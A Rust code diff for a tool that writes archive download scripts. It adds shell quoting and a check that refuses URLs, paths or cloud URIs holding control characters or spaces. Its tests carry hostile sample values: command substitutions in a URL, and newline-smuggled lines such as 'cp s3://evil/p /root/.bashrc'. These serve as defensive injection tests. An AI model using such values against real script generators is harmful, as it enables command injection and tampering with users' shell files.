@@ -330,26 +330,24 @@ pub fn plan_scripts(
         "# s5cmd --no-sign-request run THIS  (public files in the stpubdata bucket only)\n",
     );
     for f in &doc.files {
+        check_plan_entry(f)?;
         let exclusive = f.access != "PUBLIC";
-        curl.push_str(&format!(
-            "fetch '{}' '{}' {}\n",
-            f.url,
-            f.path,
-            u8::from(exclusive)
-        ));
+        let (u, p, dir) = (
+            sh_quote(&f.url),
+            sh_quote(&f.path),
+            sh_quote(parent(&f.path)),
+        );
+        curl.push_str(&format!("fetch {u} {p} {}\n", u8::from(exclusive)));
         if exclusive {
-            wget.push_str(&format!("mkdir -p '{dir}' && wget --continue --tries=5 --header=\"Authorization: token ${{MAST_API_TOKEN:?}}\" -O '{p}' '{u}'\n", dir = parent(&f.path), p = f.path, u = f.url));
+            wget.push_str(&format!("mkdir -p {dir} && wget --continue --tries=5 --header=\"Authorization: token ${{MAST_API_TOKEN:?}}\" -O {p} {u}\n"));
             aria.push_str(&format!("# {}\n#   out={}\n", f.url, f.path));
         } else {
             wget.push_str(&format!(
-                "mkdir -p '{dir}' && wget --continue --tries=5 -O '{p}' '{u}'\n",
-                dir = parent(&f.path),
-                p = f.path,
-                u = f.url
+                "mkdir -p {dir} && wget --continue --tries=5 -O {p} {u}\n"
             ));
             aria.push_str(&format!("{}\n  out={}\n", f.url, f.path));
             if let Some(c) = &f.cloud_uri {
-                s5.push_str(&format!("cp {c} {}\n", f.path));
+                s5.push_str(&format!("cp {} {p}\n", sh_quote(c)));
             }
         }
     }
@@ -365,6 +363,38 @@ pub fn plan_scripts(
         ("s5cmd.txt", s5.into_bytes()),
         ("csv", csv),
     ])
+}
+
+/// One shell word (bash, and s5cmd's `run`, which splits lines as a shell
+/// does): single-quoted, a `'` written as `'\''`. Nothing inside is expanded.
+fn sh_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
+
+/// A plan entry whose URL, path or cloud URI holds a control character (a
+/// newline would add a line to the aria2c and s5cmd listings) or whose URLs
+/// hold whitespace is refused, naming the value (docs/security.md).
+fn check_plan_entry(f: &PlanFile) -> Result<(), OutputError> {
+    let cloud = f.cloud_uri.as_deref().unwrap_or("");
+    for (what, v, no_space) in [
+        ("url", f.url.as_str(), true),
+        ("path", f.path.as_str(), false),
+        ("cloud_uri", cloud, true),
+    ] {
+        let bad = v
+            .chars()
+            .any(|c| c.is_control() || (no_space && c.is_whitespace()));
+        if bad {
+            return Err(OutputError::Bad {
+                path: "plan.json".into(),
+                message: format!(
+                    "the server's {what} {:?} holds a control character or space, which could add commands to the download scripts; it was refused (report it to archive@stsci.edu)",
+                    v.escape_debug().to_string()
+                ),
+            });
+        }
+    }
+    Ok(())
 }
 
 fn parent(p: &str) -> &str {
@@ -408,4 +438,82 @@ fn write_plan(
         });
     }
     Ok(written)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn entry(url: &str, path: &str, cloud: Option<&str>) -> PlanFile {
+        PlanFile {
+            data_uri: "mast:JWST/product/x.fits".into(),
+            product_filename: "x.fits".into(),
+            path: path.into(),
+            url: url.into(),
+            cloud_uri: cloud.map(str::to_string),
+            size: Some(1),
+            checksum: None,
+            access: "PUBLIC".into(),
+            product_type: None,
+            observations: vec![],
+        }
+    }
+
+    /// A hostile value through `sh_quote` reaches bash as one literal word:
+    /// nothing runs (issue 12 item 1).
+    #[test]
+    fn quoted_values_are_never_expanded_by_bash() {
+        let dir = tempfile::tempdir().unwrap();
+        let marker = dir.path().join("pwned");
+        let hostile = format!(
+            "http://h/'$(touch {m})'`touch {m}`\"$(touch {m})\";touch {m}",
+            m = marker.display()
+        );
+        let out = std::process::Command::new("bash")
+            .arg("-c")
+            .arg(format!("printf %s {}", sh_quote(&hostile)))
+            .output()
+            .unwrap();
+        assert!(out.status.success());
+        assert_eq!(String::from_utf8_lossy(&out.stdout), hostile);
+        assert!(!marker.exists(), "the quoted value ran a command");
+    }
+
+    /// A newline from the server would add a command to the s5cmd and aria2c
+    /// listings: refused, naming the value (issue 12 item 2).
+    #[test]
+    fn control_characters_in_plan_entries_are_refused() {
+        let ok = entry(
+            "https://mast.stsci.edu/x",
+            "jw/x.fits",
+            Some("s3://stpubdata/jwst/x.fits"),
+        );
+        assert!(check_plan_entry(&ok).is_ok());
+        let bad = [
+            entry(
+                "https://mast.stsci.edu/x",
+                "jw/x.fits",
+                Some("s3://stpubdata/x\ncp s3://evil/p /root/.bashrc"),
+            ),
+            entry(
+                "https://mast.stsci.edu/x\r\nhttp://evil/",
+                "jw/x.fits",
+                None,
+            ),
+            entry("https://mast.stsci.edu/x y", "jw/x.fits", None),
+            entry(
+                "https://mast.stsci.edu/x",
+                "jw/x\u{1b}]0;title\u{7}.fits",
+                None,
+            ),
+        ];
+        for b in bad {
+            let e = check_plan_entry(&b).unwrap_err().to_string();
+            assert!(e.contains("refused"), "{e}");
+            assert!(
+                !e.contains('\n') && !e.contains('\u{1b}'),
+                "escaped in the message: {e}"
+            );
+        }
+    }
 }
